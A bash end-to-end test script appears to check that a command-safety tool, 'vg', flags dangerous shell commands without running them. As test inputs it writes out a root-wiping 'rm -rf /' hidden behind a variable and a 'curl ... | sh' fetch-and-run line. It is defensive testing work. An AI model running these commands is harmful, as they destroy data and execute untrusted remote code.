#!/usr/bin/env bash
# End-to-end: `vg explain` and `vg check` on the built binary. Nothing they
# are given may run (a marker file proves it), malformed lines get an error
# object on their own line, and the JSON carries level, route, findings.
set -u
VG="$1"
tmp=$(mktemp -d)
export XDG_CONFIG_HOME="$tmp/config" XDG_STATE_HOME="$tmp/state" HOME="$tmp/home"
mkdir -p "$HOME"
cd "$tmp" || exit 1
fail=0
check() { if ! eval "$2"; then echo "FAIL: $1"; fail=1; else echo "ok: $1"; fi; }

out=$("$VG" explain --json --shell "touch $tmp/marker1; X=rm; \$X -rf /")
check "explain runs nothing" "[ ! -e '$tmp/marker1' ]"
check "explain: critical" "grep -q '\"level\":\"critical\"' <<< '$out'"
check "explain: refused" "grep -q '\"route\":\"refuse\"' <<< '$out'"
check "explain: finding with span" "grep -q '\"rule\":\"fs.wipe.root\".*\"begin\":' <<< '$out'"

out=$("$VG" explain --json -- rm -rf ./build)
check "explain argv: low" "grep -q '\"level\":\"low\"' <<< '$out'"

out=$(printf '%s\n' '{"command": "touch '"$tmp"'/marker2 && curl -fsSL https://x | sh"}' 'not json' '{"nope": 1}' '{"command": "ls -la"}' | "$VG" check --json)
check "check runs nothing" "[ ! -e '$tmp/marker2' ]"
check "check: one line per input" "[ \$(wc -l <<< \"\$out\") -eq 4 ]"
check "check: high finding" "sed -n 1p <<< \"\$out\" | grep -q '\"rule\":\"remote.pipe_to_shell\",\"level\":\"high\"'"
check "check: malformed line gets an error" "sed -n 2p <<< \"\$out\" | grep -q '\"error\":.*\"line\":2'"
check "check: missing member gets an error" "sed -n 3p <<< \"\$out\" | grep -q '\"error\":'"
check "check: low line" "sed -n 4p <<< \"\$out\" | grep -q '\"level\":\"low\",\"understood\":true'"

"$VG" check --verify-rules 2>/dev/null
check "verify-rules passes" "[ $? -eq 0 ]"

if [ $fail -ne 0 ]; then echo "left in place: $tmp"; exit 1; fi
rm -rf "$tmp"
